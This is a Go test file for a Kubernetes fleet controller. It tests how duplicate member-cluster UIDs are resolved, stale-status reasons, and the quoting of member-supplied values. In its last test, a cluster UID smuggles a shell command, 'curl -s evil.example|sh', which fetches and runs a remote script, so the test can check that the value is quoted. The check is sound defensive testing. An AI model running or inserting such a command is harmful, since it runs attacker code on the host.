package memberstatus_test

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/pelotech/ot-fleet/api/v1alpha1"
	"github.com/pelotech/ot-fleet/hub/memberstatus"
)

func TestFindHolder(t *testing.T) {
	claimant := func(name string, created int, recorded types.UID, change ...func(*v1alpha1.MemberCluster)) v1alpha1.MemberCluster {
		m := v1alpha1.MemberCluster{
			ObjectMeta: metav1.ObjectMeta{Name: name, CreationTimestamp: *timeAt(created)},
			Spec:       v1alpha1.MemberClusterSpec{AgentNamespace: "ot-agent"},
			Status:     v1alpha1.MemberClusterStatus{ClusterUID: recorded},
		}
		for _, c := range change {
			c(&m)
		}
		return m
	}
	accepts := func(cluster string) func(*v1alpha1.MemberCluster) {
		return func(m *v1alpha1.MemberCluster) {
			m.Annotations = map[string]string{v1alpha1.AnnotationAcceptCluster: cluster}
		}
	}
	leaves := func(m *v1alpha1.MemberCluster) { m.DeletionTimestamp = timeAt(100) }
	elsewhere := func(m *v1alpha1.MemberCluster) { m.Spec.AgentNamespace = "another" }
	for name, tt := range map[string]struct {
		member v1alpha1.MemberCluster
		others []v1alpha1.MemberCluster
		want   string
	}{
		"alone":                                          {member: claimant("b", 2, "")},
		"itself is none other":                           {member: claimant("b", 2, ""), others: []v1alpha1.MemberCluster{claimant("b", 2, "u")}},
		"recorded first":                                 {member: claimant("b", 2, ""), others: []v1alpha1.MemberCluster{claimant("c", 3, "u")}, want: "c"},
		"recorded itself":                                {member: claimant("b", 2, "u"), others: []v1alpha1.MemberCluster{claimant("a", 1, "", accepts("u"))}},
		"both recorded, the other is older":              {member: claimant("b", 2, "u"), others: []v1alpha1.MemberCluster{claimant("c", 1, "u")}, want: "c"},
		"both recorded, the other is younger":            {member: claimant("b", 2, "u"), others: []v1alpha1.MemberCluster{claimant("a", 3, "u")}},
		"both recorded, of one age":                      {member: claimant("b", 2, "u"), others: []v1alpha1.MemberCluster{claimant("a", 2, "u")}, want: "a"},
		"of three the oldest":                            {member: claimant("b", 3, "u"), others: []v1alpha1.MemberCluster{claimant("c", 2, "u"), claimant("d", 1, "u")}, want: "d"},
		"accepted what another has":                      {member: claimant("b", 2, "v", accepts("u")), others: []v1alpha1.MemberCluster{claimant("c", 3, "u")}, want: "c"},
		"the other has accepted another":                 {member: claimant("b", 2, ""), others: []v1alpha1.MemberCluster{claimant("c", 3, "u", accepts("v"))}},
		"another cluster":                                {member: claimant("b", 2, ""), others: []v1alpha1.MemberCluster{claimant("c", 3, "v")}},
		"an agent in another namespace":                  {member: claimant("b", 2, ""), others: []v1alpha1.MemberCluster{claimant("c", 3, "u", elsewhere)}},
		"one that leaves has it until it is gone":        {member: claimant("b", 2, ""), others: []v1alpha1.MemberCluster{claimant("c", 3, "u", leaves)}, want: "c"},
		"a member that is being deleted does not get it": {member: claimant("b", 2, ""), others: []v1alpha1.MemberCluster{claimant("a", 1, "", accepts("u"), leaves)}},
	} {
		t.Run(name, func(t *testing.T) {
			assert.Equal(t, tt.want, memberstatus.FindHolder(tt.others, &tt.member, "u"))
		})
	}
	member := claimant("b", 2, "")
	assert.Empty(t, memberstatus.FindHolder([]v1alpha1.MemberCluster{claimant("a", 1, "")}, &member, ""), "of no cluster yet")
}

func TestStatusClaimsNoClusterOfAnotherMember(t *testing.T) {
	v := withStoredStatus(healthyInput())
	v.Holder = "berlin"
	got, _ := memberstatus.Compute(v)
	assert.Empty(t, got.ClusterUID)
	assert.Nil(t, got.Plan)
	assert.Nil(t, got.Images)
	v = withStoredStatus(v)
	assert.Equal(t, v1alpha1.ReasonDuplicateCluster, memberstatus.StaleReason(v.Member))
}

func TestResolveClusterUID(t *testing.T) {
	member := &v1alpha1.MemberCluster{}
	assert.Equal(t, types.UID("r"), memberstatus.ResolveClusterUID(member, "r"))
	member.Status.ClusterUID = "s"
	assert.Equal(t, types.UID("s"), memberstatus.ResolveClusterUID(member, "r"))
	member.Annotations = map[string]string{v1alpha1.AnnotationAcceptCluster: "a"}
	assert.Equal(t, types.UID("a"), memberstatus.ResolveClusterUID(member, "r"))
}

func TestStaleReason(t *testing.T) {
	v := withStoredStatus(healthyInput())
	assert.Empty(t, memberstatus.StaleReason(v.Member))
	v.OtherClusterUID = "2222"
	assert.Equal(t, v1alpha1.ReasonAnotherCluster, memberstatus.StaleReason(withStoredStatus(v).Member))
	v = healthyInputWith(func(v *memberstatus.Input) { v.Now = v.Now.Add(time.Hour) })
	assert.Equal(t, v1alpha1.ReasonSilent, memberstatus.StaleReason(withStoredStatus(v).Member))
	assert.Empty(t, memberstatus.StaleReason(&v1alpha1.MemberCluster{}), "nothing was judged yet")
}

// A member chooses the clusterUID of its report.
func TestUIDInCommandIsQuoted(t *testing.T) {
	v := healthyInput()
	v.Member.Status.ClusterUID, v.OtherClusterUID = uid, "x;curl -s evil.example|sh #"
	got, _ := memberstatus.Compute(v)
	message := meta.FindStatusCondition(got.Conditions, v1alpha1.ConditionIdentityConfirmed).Message
	assert.Contains(t, message, "cluster 'x;curl -s evil.example|sh #' answers")
	assert.Contains(t, message, " 'pelotech.ot/accept-cluster=x;curl -s evil.example|sh #'")
}
